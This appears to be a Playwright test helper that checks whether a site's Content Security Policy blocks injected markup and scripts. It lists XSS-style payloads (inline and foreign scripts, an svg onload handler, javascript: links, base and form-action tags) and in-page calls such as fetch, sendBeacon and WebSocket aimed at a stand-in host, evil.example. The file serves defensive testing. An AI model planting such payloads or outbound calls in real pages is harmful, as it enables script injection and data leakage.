/** Attacks on a page, and what to see when one succeeds; they need `listen` to run first. */
import type { Page } from '@playwright/test';

/** What somebody might get into a page, were our own markup at fault, and the directive that has to stop it. */
export const attacks: readonly { name: string; directive: string; markup: string }[] = [
  { name: 'inline script', directive: 'script-src-elem', markup: `<script>harm('inline script')</script>` },
  { name: 'foreign script', directive: 'script-src-elem', markup: '<script src="https://evil.example/a.js"></script>' },
  { name: 'data: script', directive: 'script-src-elem', markup: `<script src="data:,harm('data: script')"></script>` },
  { name: 'event handler', directive: 'script-src-attr', markup: `<svg onload="harm('handler')"></svg>` },
  {
    name: 'javascript: link',
    directive: 'script-src-elem',
    markup: `<a data-click href="javascript:harm('link')">x</a>`,
  },
  { name: 'foreign image', directive: 'img-src', markup: '<img alt="" src="https://evil.example/a.png">' },
  {
    name: 'data: image',
    directive: 'img-src',
    markup: '<img alt="" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
  },
  {
    name: 'foreign style',
    directive: 'style-src-elem',
    markup: '<link rel="stylesheet" href="https://evil.example/a.css">',
  },
  { name: 'inline style', directive: 'style-src-elem', markup: '<style>html { --harmed: 1 }</style>' },
  { name: 'style attribute', directive: 'style-src-attr', markup: '<p data-styled style="--harmed: 1">x</p>' },
  { name: 'foreign frame', directive: 'frame-src', markup: '<iframe src="https://evil.example/"></iframe>' },
  { name: 'foreign object', directive: 'object-src', markup: '<object data="https://evil.example/a.swf"></object>' },
  {
    name: 'foreign sound',
    directive: 'media-src',
    markup: '<audio autoplay src="https://evil.example/a.mp3"></audio>',
  },
  { name: 'base address', directive: 'base-uri', markup: '<base href="https://evil.example/">' },
  {
    name: 'form to elsewhere',
    directive: 'form-action',
    markup: '<form action="https://evil.example/"><button data-click>x</button></form>',
  },
];

/** What a script of ours could be tricked into; each is started from the page itself. */
export const tricks: readonly { name: string; directive: string }[] = [
  { name: 'eval', directive: 'script-src' },
  { name: 'new Function', directive: 'script-src' },
  { name: 'text given to setTimeout', directive: 'script-src' },
  { name: 'foreign fetch', directive: 'connect-src' },
  { name: 'beacon', directive: 'connect-src' },
  { name: 'web socket', directive: 'connect-src' },
  { name: 'worker from a blob', directive: 'worker-src' },
];

declare global {
  var harmed: string[];
  var stopped: string[];
  function harm(name: string): void;
}

/** Runs in the page before anything else. */
export function listen(): void {
  globalThis.harmed = [];
  globalThis.stopped = [];
  globalThis.harm = (name) => void globalThis.harmed.push(name);
  document.addEventListener('securitypolicyviolation', (event) => globalThis.stopped.push(event.effectiveDirective));
}

/** Tries what only a script can, from a timer, since what the test itself calls is not under the policy. */
export async function attackFromScripts(page: Page): Promise<string[]> {
  return page.evaluate(
    () =>
      new Promise<string[]>((resolve) => {
        setTimeout(() => {
          const tried: string[] = [];
          const attempt = (name: string, act: () => unknown): void => {
            tried.push(name);
            try {
              const result = act();
              if (result instanceof Promise) result.catch(() => undefined);
            } catch {
              // Refused, as it should be.
            }
          };
          const code = (name: string): string => `harm('${name}')`;
          const timer = setTimeout as unknown as (text: string) => number;
          attempt('eval', () => (0, eval)(code('eval')) as unknown);

          attempt('new Function', () => (new Function(code('new Function')) as () => unknown)());
          attempt('text given to setTimeout', () => timer(code('setTimeout')));
          attempt('foreign fetch', () => fetch('https://evil.example/f'));
          attempt('beacon', () => navigator.sendBeacon('https://evil.example/b', 'x'));
          attempt('web socket', () => new WebSocket('wss://evil.example/w'));
          attempt('worker from a blob', () => new Worker(URL.createObjectURL(new Blob([code('worker')]))));
          setTimeout(() => resolve(tried), 50);
        });
      }),
  );
}

/** What an attack achieved, read in the page. */
export function harmDone(): string[] {
  const styled = [document.documentElement, document.querySelector('[data-styled]')];
  return [
    ...globalThis.harmed,
    ...styled.flatMap((element) =>
      element && getComputedStyle(element).getPropertyValue('--harmed') ? [`style of ${element.tagName}`] : [],
    ),
    ...(document.baseURI.includes('evil') ? ['base address'] : []),
    ...(location.href.includes('evil') ? ['left the site'] : []),
  ];
}
